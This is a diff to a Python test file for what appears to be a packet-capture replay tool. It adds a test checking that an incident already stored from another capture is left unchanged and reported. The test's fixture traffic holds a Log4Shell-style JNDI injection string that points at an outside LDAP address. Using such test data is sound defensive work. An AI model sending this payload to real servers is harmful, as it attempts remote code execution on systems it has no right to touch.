@@ -75,3 +75,13 @@ def test_the_library_needs_a_terminal(
         monkeypatch.setattr("sys.stdin", nothing)
         assert main(["replay", str(tmp_path)]) == 2
     assert "terminal" in capsys.readouterr().err
+
+
+def test_a_replay_leaves_an_incident_of_another_capture_as_it_is_stored_and_says_so(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
+    exploit = conversation(b"GET /?x=${jndi:ldap://198.51.100.7/a} HTTP/1.1\r\nHost: a\r\n\r\n")
+    for name, told in (("whole.pcap", False), ("slice.pcap", True), ("whole.pcap", False)):
+        assert main(["replay", str(pcap_file(tmp_path / name, exploit)), "--headless"]) == 0
+        assert ("(from whole.pcap) is stored already and stays as it is" in capsys.readouterr().err) is told
